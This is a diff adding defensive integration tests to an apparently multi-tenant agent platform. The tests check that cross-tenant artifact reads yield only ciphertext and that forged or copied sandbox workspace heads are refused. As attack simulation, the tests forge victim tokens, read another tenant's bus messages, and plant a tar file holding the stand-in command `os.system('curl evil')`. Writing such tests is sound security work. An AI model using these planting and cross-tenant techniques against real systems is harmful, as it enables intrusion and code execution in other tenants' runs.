@@ -11,6 +11,10 @@ from __future__ import annotations
 import asyncio
 import base64
 import contextlib
+import hashlib
+import io
+import json
+import tarfile
 import time
 import uuid
 from collections.abc import AsyncIterator, Callable
@@ -18,11 +22,15 @@ from pathlib import Path
 from typing import Any
 
 import httpx
+import httpx2
 import nats
 import nats.errors
+import nats.js.errors
 import pytest
 from cryptography.hazmat.primitives import hashes
 from cryptography.hazmat.primitives.asymmetric import ec
+from mcp import Client
+from mcp.client.streamable_http import streamable_http_client
 from nats.aio.client import Client as NATS
 
 from fleet.buskeys import stack_admin
@@ -468,6 +476,144 @@ async def test_no_token_is_issued_for_every_tenant(stack: Stack) -> None:
     response = await own_token(stack, "operator", "coordinator", "*", "agent:invoke")
     assert response.status_code in (400, 401, 403), response.text
     assert "never for every tenant" in response.text
+
+
+# ------------------------------------------------------------------------------ artifacts and workspaces
+# The bus lets mcp-sandbox read and write the artifacts bucket and the workspace heads, and
+# mcp-outbox read any message of the bucket (a direct get): for every tenant. What makes another
+# tenant's artifacts and runs safe from those rights is the tenant key (fleet.tenant_keys), which
+# the registry gives a server only with a caller's token of that tenant. Before tenant keys, every
+# test here read the plaintext or planted the files.
+async def call_tool(stack: Stack, server: str, token: str, tool: str, arguments: dict[str, Any]) -> Any:
+    url = stack.endpoints["mcp_servers"][server]
+    async with (
+        httpx2.AsyncClient(headers={"Authorization": f"Bearer {token}"}, timeout=60) as http,
+        Client(streamable_http_client(url, http_client=http)) as client,
+    ):
+        return await client.call_tool(tool, arguments)
+
+
+def structured(result: Any) -> Any:
+    assert not result.is_error, result.content
+    content: dict[str, Any] = result.structured_content
+    return content["result"] if set(content) == {"result"} else content
+
+
+def victim_token(stack: Stack, run_id: str, tenant: str = "globex") -> str:
+    return stack.forge(
+        aud="mcp-sandbox", scope="sandbox:run", tenant=tenant, run_id=run_id, sub="sql-analyst"
+    )
+
+
+async def last_seq(client: NATS, stream: str) -> int:
+    return int((await client.jetstream().stream_info(stream)).state.last_seq)
+
+
+async def messages_after(client: NATS, stream: str, after: int) -> list[Any]:
+    """Every message of ``stream`` after sequence ``after``, each read by a direct get (``STREAM.MSG.GET``)."""
+    js, found = client.jetstream(), []
+    for seq in range(after + 1, await last_seq(client, stream) + 1):
+        with contextlib.suppress(nats.js.errors.NotFoundError):
+            found.append(await js.get_msg(stream, seq))
+    return found
+
+
+@pytest.mark.parametrize("identity", ["mcp-outbox", "mcp-sandbox"])
+async def test_an_artifact_server_s_bus_rights_read_only_ciphertext_of_another_tenant(
+    stack: Stack, probe: Probe, admin: NATS, identity: str
+) -> None:
+    secret = f"globex-ledger-{uuid.uuid4().hex}"
+    before = await last_seq(admin, "OBJ_fleet_artifacts")
+    run = f"run-{uuid.uuid4().hex}"
+    code = f"open('ledger.txt', 'w').write({secret!r} * 4); print({secret!r} * 2000)"
+    result = structured(
+        await call_tool(stack, "mcp-sandbox", victim_token(stack, run), "run_python", {"code": code})
+    )
+    hashes = {
+        uri.removeprefix("artifact:sha256:")
+        for uri in (result["files"][0]["artifact"], result["workspace"], result["stdout_artifact"])
+    }
+    client = await connect_as(probe, stack, identity)
+    stolen = await messages_after(client, "OBJ_fleet_artifacts", before)
+    assert probe.errors.empty()  # the bus let it read every message: only the seal protects them
+    names = [m.subject for m in stolen if ".M." in m.subject]
+    assert len(names) >= 3 and len(stolen) > len(names)  # metadata and chunks, all read
+    everything = b"".join(m.subject.encode() + (m.data or b"") for m in stolen)
+    assert secret.encode() not in everything
+    assert not any(digest.encode() in everything for digest in hashes)
+    assert b"globex/" in everything  # the tenant's space is named; what is in it is not
+
+
+def planted_workspace() -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        content = b"import os; os.system('curl evil')"
+        member = tarfile.TarInfo("planted.py")
+        member.size = len(content)
+        archive.addfile(member, io.BytesIO(content))
+    return buffer.getvalue()
+
+
+async def new_head(admin: NATS, before: int) -> Any:
+    [written] = [m for m in await messages_after(admin, "KV_fleet_sandbox_workspaces", before)]
+    return written
+
+
+async def test_bus_rights_on_the_workspaces_cannot_plant_a_file_in_another_tenant_s_run(
+    stack: Stack, probe: Probe, admin: NATS
+) -> None:
+    run = f"run-{uuid.uuid4().hex}"
+    before = await last_seq(admin, "KV_fleet_sandbox_workspaces")
+    code = "open('mine.txt', 'w').write('mine')"
+    structured(await call_tool(stack, "mcp-sandbox", victim_token(stack, run), "run_python", {"code": code}))
+    head = (await new_head(admin, before)).subject.removeprefix("$KV.fleet_sandbox_workspaces.")
+    # With mcp-sandbox's own bus credentials: a workspace of its own making, stored as the server
+    # stores artifacts without a key, and the run's head (the one just written, and where it was
+    # kept before tenant keys) moved to it.
+    client = await connect_as(probe, stack, "mcp-sandbox")
+    js = client.jetstream()
+    tar = planted_workspace()
+    digest = hashlib.sha256(tar).hexdigest()
+    await (await js.object_store("fleet_artifacts")).put(f"globex/{digest}", tar)
+    forged = json.dumps({"sha256": digest, "size": len(tar), "run_id": run, "at": time.time()}).encode()
+    heads = await js.key_value("fleet_sandbox_workspaces")
+    for key in {head, hashlib.sha256(f"globex\x00{run}".encode()).hexdigest()}:
+        await heads.put(key, forged)
+    assert probe.errors.empty()
+    # The run's next calls do not start from it: they are refused, and nothing planted runs.
+    listed = await call_tool(stack, "mcp-sandbox", victim_token(stack, run), "workspace_files", {})
+    ran = await call_tool(
+        stack,
+        "mcp-sandbox",
+        victim_token(stack, run),
+        "run_python",
+        {"code": "import os; print(os.listdir())"},
+    )
+    for answer in (listed, ran):
+        assert "planted" not in str(answer.content)  # before tenant keys: planted.py was there
+        assert answer.is_error and "[integrity_failed]" in answer.content[0].text, answer.content
+
+
+async def test_a_sealed_head_copied_to_another_run_of_the_tenant_is_refused(
+    stack: Stack, probe: Probe, admin: NATS
+) -> None:
+    runs, heads = [f"run-{uuid.uuid4().hex}" for _ in range(2)], []
+    for run, name in zip(runs, ("first.txt", "second.txt"), strict=True):
+        before = await last_seq(admin, "KV_fleet_sandbox_workspaces")
+        code = f"open({name!r}, 'w').write('x')"
+        structured(
+            await call_tool(stack, "mcp-sandbox", victim_token(stack, run), "run_python", {"code": code})
+        )
+        heads.append(await new_head(admin, before))
+    client = await connect_as(probe, stack, "mcp-sandbox")
+    bucket = await client.jetstream().key_value("fleet_sandbox_workspaces")
+    await bucket.put(heads[1].subject.removeprefix("$KV.fleet_sandbox_workspaces."), heads[0].data)
+    listed = await call_tool(stack, "mcp-sandbox", victim_token(stack, runs[1]), "workspace_files", {})
+    assert "first.txt" not in str(listed.content)  # before tenant keys: the first run's files
+    assert listed.is_error and "[integrity_failed]" in listed.content[0].text, listed.content
+    # The first run is untouched.
+    first = await call_tool(stack, "mcp-sandbox", victim_token(stack, runs[0]), "workspace_files", {})
+    assert [f["path"] for f in structured(first)] == ["first.txt"]
 
 
 # ------------------------------------------------------------------------------ and the fleet still serves
